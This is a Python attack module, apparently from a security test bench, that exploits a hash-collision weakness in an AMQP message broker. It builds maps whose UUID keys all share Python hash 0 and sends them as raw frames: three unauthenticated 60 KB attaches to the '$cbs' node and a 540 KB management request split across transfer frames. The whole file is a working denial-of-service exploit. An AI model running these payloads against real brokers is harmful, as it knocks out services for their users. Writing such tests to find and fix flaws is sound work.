"""Maps whose keys all have the same hash (number 4 of what was found)."""

import struct
from uuid import UUID

from bench.attackers import aim
from bench.attackers.aim import Aim
from bench.attackers.raw_connection import RawConnection
from bench.attackers.raw_frames import (
    ATTACH,
    DISPOSITION,
    attach_frame,
    credit_frame,
    more_frame,
    performative,
    transfer_frame,
)
from bench.attackers.tally import Tally
from twinbus.amqp.codec import encode
from twinbus.amqp.composite import encode_composite
from twinbus.amqp.messaging import Source, Target
from twinbus.amqp.types import UInt

# Python's integers, and with them UUIDs, are hashed modulo this prime.
_MODULUS = (1 << 61) - 1
_MAP = struct.Struct(">BII")
_FRAME_BYTES = 60_000


def flooding_map(size: int) -> bytes:
    """An encoded map of about this size; each key is another UUID of hash 0."""
    count = size // 18
    entries = b"".join(
        b"\x98" + UUID(int=number * _MODULUS).bytes + b"\x40"
        for number in range(1, count + 1)
    )
    return _MAP.pack(0xD1, len(entries) + 4, 2 * count) + entries


_SMALL_MAP = flooding_map(_FRAME_BYTES)
_LARGE_MAP = flooding_map(540_000)


def _attach(handle: int) -> bytes:
    """To `$cbs`, where anybody may, with the map as its properties."""
    node = "$cbs"
    fields = [encode(f"flood-{handle}"), encode(UInt(handle)), encode(False), b"", b""]
    fields += [encode_composite(Source(address=node))]
    fields += [encode_composite(Target(address=node))]
    fields += [b"", b"", encode(UInt(0)), b"", b"", b"", _SMALL_MAP]
    return performative(ATTACH, fields)


async def without_key(found: Aim, tally: Tally) -> None:
    """Three attaches of 60 KB by somebody who has shown nothing."""
    async with await RawConnection.dial(found) as connection:
        await connection.write(b"".join(_attach(handle) for handle in range(3)))
        tally.bite_count += 1
        for _ in range(3):
            await connection.expect(ATTACH)


async def with_send_key(found: Aim, tally: Tally) -> None:
    """One request of 540 KB to the management of a queue."""
    node = f"{aim.TARGET}/$management"
    # An amqp-value section of the map; which operation it is comes too late to know.
    payload = b"\x00\x53\x77" + _LARGE_MAP
    parts = [
        payload[at : at + _FRAME_BYTES] for at in range(0, len(payload), _FRAME_BYTES)
    ]
    async with await RawConnection.dial(found, aim.SENDER) as connection:
        await connection.write(
            attach_frame(node) + attach_frame(node, handle=1, is_receiver=True)
        )
        await connection.expect(ATTACH)
        await connection.write(credit_frame(100, 1))
        await connection.write(transfer_frame(0, parts[0], more=True))
        for number, part in enumerate(parts[1:], start=2):
            await connection.write(more_frame(part, last=number == len(parts)))
        tally.bite_count += 1
        await connection.expect(DISPOSITION)
